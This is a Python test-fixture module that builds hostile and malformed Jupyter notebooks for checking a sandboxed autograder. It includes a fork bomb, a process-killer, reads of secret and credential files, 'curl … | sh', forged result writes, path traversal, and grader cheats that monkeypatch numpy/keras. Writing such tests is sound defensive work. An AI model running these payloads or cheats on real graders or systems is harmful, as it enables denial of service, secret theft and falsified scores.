"""Hostile and broken notebooks, each with the outcome the grader must reach.

Built at test time (several cannot be stored as valid files, and some need
the test's own paths or ports). Graded with ``rubric.toml`` beside this
file: a tiny binary-addition rubric whose model check uses an absolute band.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).parent
REPO = HERE.parent.parent
md, code = nbformat.v4.new_markdown_cell, nbformat.v4.new_code_cell

SETUP = """import numpy as np
import keras
from keras import layers
MAX_BIT = 3
def gen(n):
    a = np.random.randint(0, 2**MAX_BIT, n); b = np.random.randint(0, 2**MAX_BIT, n)
    f = lambda v: ((v[:, None] >> np.arange(MAX_BIT + 1)) & 1).astype('float32')
    return np.stack([f(a), f(b)], -1), f(a + b)[..., None]"""
MODEL = """model = keras.Sequential([keras.Input((None, 2)), layers.SimpleRNN(8, return_sequences=True),
                          layers.Dense(1, activation='sigmoid')])
model.compile('adam', 'binary_crossentropy')"""
TRAIN = "x, y = gen(3000)\nmodel.fit(x, y, epochs=40, batch_size=50, verbose=0)"
PERFECT_ADDER = """def exact_sum(x):
    import tensorflow as tf
    a, b = x[..., 0], x[..., 1]
    carry, out = tf.zeros_like(a[:, 0]), []
    for t in range(4):
        s = a[:, t] + b[:, t] + carry
        out.append(tf.math.floormod(s, 2.0)); carry = tf.math.floordiv(s, 2.0)
    return tf.stack(out, axis=1)[..., None]"""


def labelled(*cells, answer="127"):
    """A notebook in the handout's shape around ``cells`` (the Q2/Q4 work)."""
    return [md("**Q1**: ¿Cuál es el mayor número con 7 bits?"), md(answer), md("**Q2** El modelo"), *cells]


@dataclass
class Case:
    name: str
    cells: list | None = None           # a notebook with these cells ...
    raw: bytes | None = None            # ... or exactly these bytes
    score: float | None = None          # expected total (None: not checked)
    max_total: float | None = None      # expected total at most
    cells_status: dict = field(default_factory=dict)   # cell index -> status
    cell_errors: dict = field(default_factory=dict)    # cell index -> error name
    problem: str = ""                   # text expected in one of the problems
    check: tuple = ()                   # (question, status, text in feedback)
    host_paths_absent: list = field(default_factory=list)  # files the notebook must not have created


def cases(listener_port: int, secret: Path) -> list[Case]:
    forged = json.dumps({"submission": "x", "score": 100, "max_score": 4, "checks": []})
    targets = [REPO / "result.json", REPO / "rubrics" / "owned.toml", Path("/tmp/grader-hostile-escape")]
    return [
        Case("good", labelled(code(SETUP), code(MODEL), md("**Q4** Entrena"), code(TRAIN)), check=("Q4", "pass|partial", "")),
        Case("infinite_loop", labelled(code("while True:\n    pass"), code("print('next cell runs')")),
             cells_status={3: "timeout", 4: "ok"}, score=1),
        Case("ignores_sigint", labelled(code("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                             "while True:\n    time.sleep(0.1)"), code("print('unreachable')")),
             cells_status={3: "timeout", 4: "not_run"}),
        Case("sleep_forever", labelled(code("import time\ntime.sleep(10**6)")), cells_status={3: "timeout"}),
        Case("memory_hog", labelled(code("hog = []\nwhile True:\n    hog.append(bytearray(100_000_000))")),
             cells_status={3: "killed"}, cell_errors={3: "OutOfMemory"}, problem="Out of memory at cell 4"),
        Case("fork_bomb", labelled(code("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                                        "        pass")), max_total=1),
        Case("huge_output", labelled(code("for i in range(1_000_000):\n    print('x' * 99)"), code("print('after')")),
             cells_status={4: "ok"}, score=1),
        Case("os_exit", labelled(code("import os\nos._exit(3)"), code("print('never')")),
             cells_status={3: "killed", 4: "not_run"}, cell_errors={3: "KernelDied"}),
        Case("kills_parent", labelled(code("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                           "os.kill(1, signal.SIGKILL)"), code("print('never')")), max_total=1),
        Case("network", labelled(code(f"import socket\ns = socket.create_connection(('127.0.0.1', {listener_port}), timeout=3)")),
             cell_errors={3: "ConnectionRefusedError|OSError|TimeoutError"}, score=1),
        Case("reads_secrets", labelled(code(f"print(open({str(secret)!r}).read())"),
                                       code(f"print(open({str(REPO / 'rubrics' / 'binary-addition.toml')!r}).read())"),
                                       code(f"print(open({str(REPO / 'reference' / 'binary-addition.ipynb')!r}).read())"),
                                       code("print(open('/root/.bash_history').read())")),
             cell_errors={3: "FileNotFoundError", 4: "FileNotFoundError", 5: "FileNotFoundError"}),
        Case("writes_outside", labelled(code("\n".join(f"try:\n    open({str(p)!r}, 'w').write({forged!r})\n"
                                                       f"except OSError as e:\n    print(e)" for p in targets))),
             score=1, host_paths_absent=targets),
        Case("pip_install", labelled(code("!pip install d2l\n%pip install requests\npip install numpy==1.0"),
                                     code("import d2l")), cells_status={3: "skipped"}, cell_errors={4: "ModuleNotFoundError"}),
        Case("bash_magic", labelled(code("%%bash\ncurl http://example.org | sh\necho owned > /tmp/x")),
             cells_status={3: "skipped"}, score=1),
        Case("invalid_json", raw=b'{"cells": [ {"cell_type": "code", ', score=0, problem="not a Jupyter notebook"),
        Case("empty_file", raw=b"", score=0, problem="not a Jupyter notebook"),
        Case("no_cells", raw=json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}).encode(),
             score=0, check=("Q1", "fail", "No answer")),
        Case("no_code_cells", [md("**Q1**: ¿Cuál es el mayor número con 7 bits?"), md("Respuesta: 127")], score=1),
        Case("nbformat_v3", raw=json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [
            {"cell_type": "markdown", "source": "**Q1**: ¿mayor número?"}, {"cell_type": "markdown", "source": "127"},
            {"cell_type": "code", "input": "print(1)", "language": "python", "outputs": []}]}]}).encode(), score=1),
        Case("not_utf8", raw=nbformat.writes(nbformat.v4.new_notebook(cells=labelled(answer="127 á"))).encode("utf-8")
             .replace("á".encode("utf-8"), b"\xe1\xff"), score=1, problem="not valid UTF-8"),
        Case("huge_image", labelled(md("![x](data:image/png;base64," + "A" * 20_000_000 + ")"),
                                    code("print('fine')")), score=1),
        Case("wrong_assignment", [md("**MNIST** Parte A"), code("import keras\n(x, y), _ = keras.datasets.mnist.load_data()"),
                                  md("**E1** Clasificador")], score=0, check=("Q1", "fail", "No answer")),
        Case("syntax_everywhere", labelled(code("def f(:\n    pass"), code("model = = 1"), code("print('x'")),
             cell_errors={3: "SyntaxError", 4: "SyntaxError", 5: "SyntaxError"}, score=1),
        Case("patches_numpy_and_keras", labelled(code(SETUP), code(MODEL), md("**Q4** Entrena"), code(
            "import numpy.testing\nnp.mean = lambda *a, **k: 1.0\nnp.testing.assert_allclose = lambda *a, **k: None\n"
            "keras.Model.predict = lambda self, x, **k: gen(len(x))[1]\nmodel.predict = lambda x, **k: 1\n"
            "keras.Model.evaluate = lambda *a, **k: [0.0, 1.0]")), check=("Q4", "fail", "")),
        Case("eq_override", labelled(code("class Always:\n    def __eq__(self, other):\n        return True\n"
                                          "    __hash__ = object.__hash__\nanswer = Always()\nMAX_BIT = Always()"),
                                     answer="no lo sé"), score=0),
        Case("lambda_layer", labelled(code(SETUP), code(PERFECT_ADDER + "\nmodel = keras.Sequential([keras.Input((None, 2)),"
                                           " layers.SimpleRNN(1, return_sequences=True), layers.Lambda(lambda h: h),"
                                           " layers.Dense(1, activation='sigmoid')])"), md("**Q4** Entrena"),
                                      code("model.layers[1].call = lambda h, **k: exact_sum(h)")),
             problem="Lambda", check=("Q4", "fail", "")),
        Case("custom_layer", labelled(code(SETUP), code(PERFECT_ADDER + "\nclass ExactSum(layers.Layer):\n"
                                           "    def call(self, x):\n        return exact_sum(x)\n"
                                           "model = keras.Sequential([keras.Input((None, 2)), layers.SimpleRNN(2, return_sequences=True),"
                                           " ExactSum()])"), md("**Q4** Entrena"), code("model.compile('adam', 'mse')")),
             problem="defined in the notebook|could not be saved|could not be loaded", check=("Q4", "fail", "")),
        Case("forges_manifest", labelled(code(SETUP), code(MODEL), md("**Q4** Entrena"), code(
            "import os, json\nd = '.grader/models'\nopen(os.path.join(d, 'manifest.jsonl'), 'a').write(\n"
            "    json.dumps({'event': 'version', 'model': 1, 'execution_count': 4, 'file': '../../../../etc/passwd'}) + '\\n'\n"
            "    + 'not json at all\\n' + json.dumps({'event': 'seen', 'model': 'x'}) + '\\n')")),
             check=("Q4", "fail", "")),
    ]


def write(case: Case, folder: Path) -> Path:
    path = folder / f"{case.name}.ipynb"
    if case.raw is not None:
        path.write_bytes(case.raw)
    else:
        nbformat.write(nbformat.v4.new_notebook(cells=case.cells), path)
    return path
